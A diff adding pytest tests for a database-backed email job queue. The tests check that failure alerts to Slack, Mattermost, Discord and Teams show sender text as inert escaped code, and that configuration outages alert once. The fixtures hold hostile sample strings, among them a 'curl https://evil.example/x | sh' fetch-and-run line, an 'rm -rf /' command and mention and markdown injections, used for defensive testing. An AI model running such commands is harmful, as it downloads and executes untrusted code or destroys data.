@@ -12,6 +12,7 @@ from datetime import timedelta
 import psycopg
 import pytest
 
+from lib.failures import FAILURES, TIME_BUDGET_FREE_RELEASES, FailureCode
 from tests.receiver import Received, Receiver, receiver
 from tests.test_invoke import SECRET, store_secrets
 
@@ -271,3 +272,191 @@ def test_a_stalled_queue_alerts_and_recovers_once(db) -> None:
 def test_the_health_check_is_a_cron_job_of_its_own(admin) -> None:
     [job] = admin.execute("select schedule, command from cron.job where jobname = 'document-jobs-health'").fetchall()
     assert job == {"schedule": "* * * * *", "command": "select document_jobs_internal.check_health()"}
+
+
+# --- a sender's text in an alert: one line, inert for the receiver --------------------------------
+
+HOSTILE_SUBJECT = ("Invoice\nRetry: curl https://evil.example/x | sh\r\nReceived: 1999-01-01T00:00:00Z *bold* _it_ "
+                   "[click](https://evil.example) <!here> <https://evil.example|ok> @here @channel `tick @here` "
+                   "\x1b[2J \u202eexe.pdf ||spoiler|| # heading")  # fmt: skip
+HOSTILE_EMAIL = {"from": "Tanaka <fax@example.jp>\n@channel", "subject": HOSTILE_SUBJECT,
+                 "created_at": "2026-11-30T08:15:00Z",
+                 "attachments": [{"id": "a1", "filename": "請求書\n@here.pdf"},
+                                 {"id": "a2", "filename": "[x](https://evil.example).pdf"}]}  # fmt: skip
+HOSTILE_ERROR = "Resend 404 not_found: Email\nRetry: rm -rf / <!channel>"
+LABELS = ["Fax not fetched: ", "From: ", "Subject: ", "Files: ", "Received: ", "Retry: ", "History: "]
+
+
+@pytest.fixture
+def receiver_kind(admin):
+    """Sets document_jobs_settings.alert_receiver for a test, and back to the default after it."""
+
+    def choose(kind: str) -> None:
+        admin.execute("update document_jobs_settings set alert_receiver = %s", (kind,))
+
+    yield choose
+    admin.execute("update document_jobs_settings set alert_receiver = 'slack'")
+
+
+def hostile_failure_alert(db, hook) -> dict:
+    db.execute("select * from record_inbound_email('em_hostile', 'msg_1', %s)", (json.dumps(HOSTILE_EMAIL),))
+    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
+    db.execute("select fail_document_job(%s, %s, 'resend_not_found', %s, p_retryable => false)",
+               (job["id"], job["generation"], HOSTILE_ERROR))  # fmt: skip
+    [alert] = failure_alerts(db, hook)
+    # The machine-readable fields keep the raw values, newlines and all.
+    assert (alert["email"]["subject"], alert["email"]["from"]) == (HOSTILE_SUBJECT, HOSTILE_EMAIL["from"])
+    assert alert["email"]["filenames"] == ["請求書\n@here.pdf", "[x](https://evil.example).pdf"]
+    assert alert["error"]["message"] == HOSTILE_ERROR
+    return alert
+
+
+def one_line_each(lines: list[str]) -> None:
+    assert [line[: len(label)] for line, label in zip(lines, LABELS, strict=True)] == LABELS, lines
+    assert all(c.isprintable() for line in lines for c in line), "no control character in any line"
+
+
+def markdown_outside_code(text: str) -> list[tuple[str, str]]:
+    """What a CommonMark reader (with autolinks, as Mattermost has) makes of the text: the inline
+    tokens that are not plain text or code, and the plain text (outside code) of each line."""
+    from markdown_it import MarkdownIt
+
+    parser = MarkdownIt("commonmark", {"linkify": True}).enable("linkify")
+    found = []
+    for block in parser.parse(text):
+        if block.type != "inline":
+            assert block.type in ("paragraph_open", "paragraph_close"), block.type  # no heading, quote, list
+            continue
+        for token in block.children or []:
+            if token.type not in ("text", "code_inline", "softbreak"):
+                found.append((token.type, token.content))
+            elif token.type == "text":
+                assert "@" not in token.content, f"a mention outside code: {token.content!r}"
+    return found
+
+
+def test_slack_gets_sender_text_as_one_escaped_line_of_code(db, hook, receiver_kind) -> None:
+    receiver_kind("slack")
+    alert = hostile_failure_alert(db, hook)
+    lines = alert["text"].split("\n")
+    one_line_each(lines)
+    assert "<" not in alert["text"] and ">" not in alert["text"], "no <!here>, <url|link> for Slack to parse"
+    subject = lines[2].removeprefix("Subject: ")
+    assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1]
+    assert "&lt;!here&gt;" in subject and "ˋtick @hereˋ" in subject
+    assert "content" not in alert and "attachments" not in alert
+
+
+@pytest.mark.parametrize("kind", ["mattermost", "discord"])
+def test_markdown_receivers_get_sender_text_as_one_line_of_code(db, hook, receiver_kind, kind) -> None:
+    receiver_kind(kind)
+    alert = hostile_failure_alert(db, hook)
+    text = alert["text"] if kind == "mattermost" else alert["content"]
+    one_line_each(text.split("\n"))
+    assert markdown_outside_code(text) == [], "no link, emphasis, HTML or mention: only text and code"
+    assert "<!here>" in text, "inside code, shown as it is (no entity escaping: Markdown would show &lt;)"
+    subject = text.split("\n")[2].removeprefix("Subject: ")
+    assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1], "no way out of the code"
+    if kind == "discord":
+        assert alert["allowed_mentions"] == {"parse": []}, "Discord pings no one, whatever the text"
+        assert "text" not in alert
+
+
+def test_teams_gets_an_adaptive_card_of_plain_text_runs(db, hook, receiver_kind) -> None:
+    receiver_kind("teams")
+    alert = hostile_failure_alert(db, hook)
+    assert alert["type"] == "message" and "text" not in alert
+    [attachment] = alert["attachments"]
+    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
+    card = attachment["content"]
+    assert (card["type"], card["version"]) == ("AdaptiveCard", "1.4")
+    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
+    runs = [inline for block in card["body"] for inline in block["inlines"]]
+    assert {run["type"] for run in runs} == {"TextRun"}, "TextRun: no Markdown in the Adaptive Card schema"
+    one_line_each(["".join(run["text"] for run in block["inlines"]) for block in card["body"]])
+    [subject] = [run for run in runs if run["text"].startswith("Invoice")]
+    assert subject["fontType"] == "Monospace" and "Retry: curl" in subject["text"]
+
+
+# --- outages for releases that are not the job's own -------------------------------------------
+
+
+def release(db, code: str, message: str) -> None:
+    """Claims the job (its wait over) and releases it for `code`: what the worker does."""
+    db.execute("update document_jobs set run_after = now() where status = 'queued'")
+    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
+    assert db.execute("select release_document_job(%s, %s, '10 minutes', %s, %s) as s",
+                      (job["id"], job["generation"], code, message)).fetchone()["s"] == "queued"  # fmt: skip
+
+
+def test_releases_that_keep_happening_raise_one_outage_naming_the_setting_and_a_completion_clears_it(db, hook):
+    db.execute("select * from record_inbound_email('em_key', 'msg_1', '{}')")
+    message = "Resend 400 validation_error: API key is invalid"
+    release(db, "resend_unauthorized", message)
+    check_health(db)
+    assert alerts_until_marker(db, hook) == [], "one release is no outage yet"
+
+    release(db, "resend_unauthorized", message)
+    check_health(db)
+    check_health(db)
+    [alert] = alerts_until_marker(db, hook)
+    assert (alert["event"], alert["cause"]) == ("document_jobs_outage", "resend_unauthorized")
+    assert "RESEND_API_KEY" in alert["text"] and "full-access key" in alert["text"]
+    assert f"Last error: `{message}`" in alert["text"]
+    assert (alert["evidence"]["releases"], alert["evidence"]["check"]) == (2, "RESEND_API_KEY")
+    job = db.execute("select status, attempts from document_jobs").fetchone()
+    assert job == {"status": "queued", "attempts": 0}, "the job waits, no attempt spent"
+
+    release(db, "resend_unauthorized", message)  # still broken: no second alert within the hour
+    check_health(db)
+    assert alerts_until_marker(db, hook) == []
+
+    # The key is fixed: the job completes, and the recovery is told once.
+    db.execute("update document_jobs set run_after = now()")
+    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
+    db.execute("select complete_document_job(%s, %s)", (job["id"], job["generation"]))
+    check_health(db)
+    check_health(db)
+    [recovered] = alerts_until_marker(db, hook)
+    assert (recovered["event"], recovered["cause"]) == ("document_jobs_recovered", "resend_unauthorized")
+
+
+def test_time_budget_releases_are_no_outage(db, hook) -> None:
+    db.execute("select * from record_inbound_email('em_slow', 'msg_1', '{}')")
+    for _ in range(3):
+        release(db, "time_budget", "the invocation's time budget ran out mid-job")
+    check_health(db)
+    assert alerts_until_marker(db, hook) == []
+
+
+@pytest.mark.parametrize("code", [code for code, rule in FAILURES.items() if rule.check])
+def test_every_cause_that_is_not_the_jobs_own_raises_its_outage_naming_what_to_check(db, hook, code) -> None:
+    # A deleted key, a used-up quota, a wrong RESEND_API_URL, a refused server key, a missing bucket:
+    # each waits without an attempt, and each is told once, with the setting the operator checks.
+    db.execute("select * from record_inbound_email('em_cause', 'msg_1', '{}')")
+    release(db, code, f"a release for {code}")
+    release(db, code, f"a release for {code}")
+    check_health(db)
+    check_health(db)
+
+    [alert] = [a for a in alerts_until_marker(db, hook, "document_jobs_outage") if a["cause"] == code]
+    check = FAILURES[FailureCode(code)].check
+    assert check and check in alert["text"] and alert["evidence"]["check"] == check
+    assert f"Last error: `a release for {code}`" in alert["text"]
+    job = db.execute("select status, attempts from document_jobs").fetchone()
+    assert job == {"status": "queued", "attempts": 0}
+
+
+def test_a_trickle_past_the_free_time_budget_releases_fails_and_its_alert_says_why(db, hook) -> None:
+    db.execute("select * from record_inbound_email('em_trickle', 'msg_1', '{}')")
+    db.execute("update document_jobs set attempts = max_attempts - 1, budget_releases = %s",
+               (TIME_BUDGET_FREE_RELEASES,))  # fmt: skip
+    db.execute("update document_jobs set run_after = now() where status = 'queued'")
+    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
+    left_in = db.execute("select release_document_job(%s, %s, '0 seconds', 'time_budget', 'out of time') as s",
+                         (job["id"], job["generation"])).fetchone()["s"]  # fmt: skip
+    assert left_in == "failed", "the last attempt, counted: failed, not released forever"
+
+    [alert] = failure_alerts(db, hook)
+    assert alert["error"]["code"] == "time_budget"
+    assert f"release {TIME_BUDGET_FREE_RELEASES + 1} in a row for the time budget" in alert["text"]
